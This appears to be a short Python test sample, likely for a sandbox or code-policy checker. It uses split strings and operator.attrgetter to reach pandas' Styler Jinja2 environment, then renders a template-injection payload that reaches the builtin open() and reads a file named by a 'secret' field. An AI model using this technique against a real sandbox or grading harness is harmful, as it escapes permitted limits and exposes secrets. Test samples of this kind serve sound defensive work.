"""Reaches the templates of a styled table by a text that it puts together."""
# wants: read
# allows: operator pandas

import operator

import pandas as pd

TEXT = "{{ cycler.__init__.__globals__['__builtins__']['open'](place).read() }}"


def fit_and_eval(data):
    environment = operator.attrgetter("sty" + "le.env")(pd.DataFrame({"a": [1]}))
    template = operator.methodcaller("from_" + "string", TEXT)(environment)
    return {"got": template.render(place=data["secret"])}
